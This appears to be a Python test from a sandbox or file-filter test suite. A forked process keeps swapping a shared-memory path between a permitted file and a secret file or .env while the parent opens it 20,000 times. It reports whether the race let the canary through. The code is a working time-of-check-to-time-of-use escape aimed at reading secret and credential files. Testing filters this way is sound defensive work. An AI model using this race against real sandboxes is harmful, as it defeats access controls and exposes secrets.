"""A second process rewrites the path while it is looked at, 20,000 times. Stopped by: the
argument is copied once and the call is done on the copy; nothing is let through on a look
(CONTINUE is no decision).
"""

import ctypes
import mmap
import os
import signal
import sys

sys.path.insert(0, ".")
from attack import SECRET, libc

ROUNDS = 20_000
good = os.path.abspath("hello.txt").encode()
env = os.path.abspath(".env").encode()
shared = mmap.mmap(-1, 4096)
address = ctypes.addressof(ctypes.c_char.from_buffer(shared))
size = max(len(good), len(env), len(SECRET)) + 1
names = [name.ljust(size, b"\0") for name in (good, SECRET.encode(), good, env)]
flipper = os.fork()
if flipper == 0:
    while True:
        for name in names:
            shared[:size] = name
libc.open.argtypes = [ctypes.c_void_p, ctypes.c_int]
reached = opened = 0
for _ in range(ROUNDS):
    descriptor = libc.open(address, os.O_RDONLY)
    if descriptor >= 0:
        opened += 1
        reached += b"CANARY" in os.pread(descriptor, 64, 0)
        os.close(descriptor)
os.kill(flipper, signal.SIGKILL)
os.waitpid(flipper, 0)
print(f"{'ESCAPED' if reached else 'SAFE'} {reached} of {ROUNDS} reached it, {opened > 0}")
